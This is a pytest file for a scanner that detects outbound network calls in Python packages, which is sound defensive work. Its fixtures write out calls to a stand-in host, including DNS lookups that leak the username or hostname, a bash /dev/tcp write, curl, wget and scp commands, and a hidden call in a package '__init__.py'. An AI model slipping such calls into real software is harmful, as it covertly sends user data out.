"""Every way in which code can reach a host is told, whatever its names say: no word here speaks of telemetry or of updates."""
# ruff: noqa: E501 - one way a line

import pytest
from scan_lab import scan

HOST = "zorblax.xyz"


def hosts(files: dict[str, str]) -> set[str]:
    return {finding.host for finding in scan(files).findings if finding.default_on}


CODE = {
    "a constructor under another name": f"from http.client import HTTPSConnection as K\nK('{HOST}').request('GET', '/v')\n",
    "a function bound to a name": f"import urllib.request\nf = urllib.request.urlopen\nf('https://{HOST}/v')\n",
    "a stream of asyncio": f"import asyncio\nasync def f():\n    await asyncio.open_connection('{HOST}', 443)\n",
    "a connection of a loop": f"import asyncio\nasync def f(loop):\n    await loop.create_connection(asyncio.Protocol, '{HOST}', 443)\n",
    "a socket": f"import socket\ns = socket.socket()\ns.connect(('{HOST}', 443))\n",
    "a question to the name server": f"import os, socket\nsocket.gethostbyname(os.environ['USER'] + '.{HOST}')\n",
    "a resolver": f"import dns.resolver, os\ndns.resolver.resolve(os.getlogin() + '.{HOST}', 'TXT')\n",
    "a pool": f"import urllib3\nurllib3.HTTPSConnectionPool('{HOST}', 443).request('GET', '/v')\n",
    "a mail": f"import smtplib\nsmtplib.SMTP_SSL('{HOST}').sendmail('a', 'b', 'c')\n",
    "an old protocol": f"from ftplib import FTP\nFTP('{HOST}').login()\n",
    "a mailbox": f"import imaplib\nimaplib.IMAP4_SSL('{HOST}')\n",
    "a channel": f"import grpc\nchannel = grpc.insecure_channel('{HOST}:443')\n",
    "a socket of the web": f"import websocket\nwebsocket.WebSocketApp('wss://{HOST}/v').run_forever()\n",
    "a handler of records": f"import logging.handlers\nh = logging.handlers.SysLogHandler(address=('{HOST}', 514))\n",
    "a connection between processes": f"from multiprocessing.connection import Client\nClient(('{HOST}', 6000)).send({{}})\n",
    "a cache": f"import redis\nredis.Redis(host='{HOST}').set('a', 'b')\n",
    "a database": f"import psycopg\npsycopg.connect('postgresql://u:p@{HOST}:5432/db')\n",
    "a queue": f"import zmq\nzmq.Context().socket(zmq.PUSH).connect('tcp://{HOST}:5555')\n",
    "a table from an address": f"import pandas as pd\npd.read_csv('https://{HOST}/v.csv')\n",
    "a program with an address": f"import subprocess\nsubprocess.run(['curl', '-s', 'https://{HOST}/v'])\n",
    "a line for a shell": f"import os\nos.system('wget -q https://{HOST}/v')\n",
    "a program with a bare host": f"import os\nos.system('curl -s {HOST}/v')\n",
    "a name server asked by a program": f"import os\nos.system('nslookup $(hostname).{HOST}')\n",
    "a device of the shell": f"import subprocess\nsubprocess.run(['bash', '-c', 'echo x > /dev/tcp/{HOST}/443'])\n",
    "a copy to another machine": f"import os\nos.system('scp f u@{HOST}:/v')\n",
    "the browser": f"import os, webbrowser\nwebbrowser.open('https://{HOST}/v?u=' + os.getlogin())\n",
}
FILES = {
    "a settings file": {
        "acme/__init__.py": "import json, os, urllib.request\nc = json.load(open(os.path.join(os.path.dirname(__file__), 'c.json')))\nurllib.request.urlopen(c['u'])\n",
        "acme/c.json": f'{{"u": "https://{HOST}/v"}}',
    },
    "a module that its package finds in its folder": {
        "acme/__init__.py": "import glob, importlib\nfor path in glob.glob('acme/*.py'):\n    importlib.import_module('acme.' + path[5:-3])\n",
        "acme/plug.py": f"import urllib.request\nurllib.request.urlopen('https://{HOST}/v')\n",
    },
    "a script of a page": {
        "acme/__init__.py": "",
        "acme/static/a.js": f"fetch('https://{HOST}/v', {{method: 'POST'}})",
    },
    "a script of the shell": {
        "acme/__init__.py": "",
        "acme-1.data/scripts/acme": f"#!/bin/sh\ncurl -s https://{HOST}/v\n",
    },
    "a program's own guard": {
        "acme/__init__.py": "",
        "acme/__main__.py": f"import urllib.request\nif __name__ == '__main__':\n    urllib.request.urlopen('https://{HOST}/v')\n",
    },
}


@pytest.mark.parametrize("code", CODE.values(), ids=CODE)
def test_a_call_is_told_with_its_host(code: str) -> None:
    assert any(HOST in host for host in hosts({"acme/__init__.py": code}))


@pytest.mark.parametrize("files", FILES.values(), ids=FILES)
def test_what_is_no_python_or_runs_as_a_program_is_told_with_its_host(files: dict[str, str]) -> None:
    assert HOST in hosts(files)


@pytest.mark.parametrize(
    "host",
    ["docs.vendor.xyz", "my-intake.xyz", "schemas.vendor.xyz", "10.vendor.xyz", "93.184.216.34", "vendor.museum"],
)
def test_what_a_client_is_handed_is_no_prose(host: str) -> None:
    assert host in hosts(
        {"acme/__init__.py": f"import http.client\nhttp.client.HTTPSConnection('{host}').request('GET', '/')\n"}
    )
    assert host in hosts({"acme/__init__.py": f"import urllib.request\nurllib.request.urlopen('https://{host}/v')\n"})


@pytest.mark.parametrize("host", ["localhost", "127.0.0.1", "10.1.2.3", "192.168.1.1", "example.com", "db.internal"])
def test_this_machine_and_private_networks_are_no_destination(host: str) -> None:
    assert hosts({"acme/__init__.py": f"import urllib.request\nurllib.request.urlopen('http://{host}/v')\n"}) == set()
    assert hosts({"acme/__init__.py": f"import socket\nsocket.create_connection(('{host}', 80))\n"}) == set()


def test_a_program_that_gets_its_host_from_its_user_is_no_finding() -> None:
    assert (
        hosts({"acme/__init__.py": "import subprocess\ndef ask(host):\n    subprocess.run(['ssh', host, 'uptime'])\n"})
        == set()
    )
